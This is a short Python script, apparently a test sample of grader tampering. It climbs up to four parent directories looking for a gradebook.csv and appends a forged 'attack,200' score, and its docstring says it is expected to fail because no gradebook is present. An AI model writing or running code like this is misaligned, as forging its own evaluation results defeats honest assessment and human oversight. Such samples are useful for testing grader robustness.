"""Wants full marks in the gradebook's own file.

Fails because the gradebook is not there.
"""

import os

here = os.getcwd()
for _ in range(4):
    if os.path.exists(here + "/gradebook.csv"):
        with open(here + "/gradebook.csv", "a") as file:
            file.write("attack,200\n")
    here = os.path.dirname(here)
